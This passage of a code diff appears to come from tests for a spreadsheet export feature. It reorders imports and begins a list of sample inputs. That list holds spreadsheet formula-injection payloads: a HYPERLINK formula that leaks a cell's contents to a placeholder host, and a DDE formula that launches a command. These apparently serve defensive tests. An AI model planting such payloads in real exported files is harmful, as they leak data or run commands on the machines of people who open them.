@@ -14,8 +14,8 @@ import json
 import cmarkgfm
 
 from cxwidgets.export.inert import formula_like
-from cxwidgets.segment_report import build_report, summary_markdown, validate_parameters
 from cxwidgets.resources import SAMPLE_WORKSHOP
+from cxwidgets.segment_report import build_report, summary_markdown, validate_parameters
 from cxwidgets.store import Editor
 
 FROM_FILES = ['=HYPERLINK("http://x.invalid/?leak="&A2,"click")', "=cmd|' /C calc'!A0",
